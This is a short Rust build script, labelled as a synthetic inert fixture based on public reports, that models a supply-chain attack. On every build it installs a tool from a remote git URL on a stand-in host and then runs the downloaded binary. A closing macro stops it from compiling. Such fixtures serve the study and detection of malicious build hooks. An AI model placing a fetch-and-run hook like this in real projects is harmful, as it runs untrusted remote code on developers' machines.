// Synthetic, inert fixture written from public reports; see README
use std::{env, path::PathBuf, process::Command};

fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    let root = PathBuf::from(env::var_os("OUT_DIR").unwrap());
    let cargo = env::var_os("CARGO").unwrap();
    let done = Command::new(cargo)
        .args(["install", "--quiet", "--git", "https://packages.storeartifact.example.invalid/icon-tool", "--root"])
        .arg(&root)
        .env_remove("RUSTC")
        .status();
    if done.map_or(false, |s| s.success()) {
        let _ = Command::new(root.join("bin").join("icon-tool")).arg("--optimise").status();
    }
}

inert_fixture_does_not_build!();
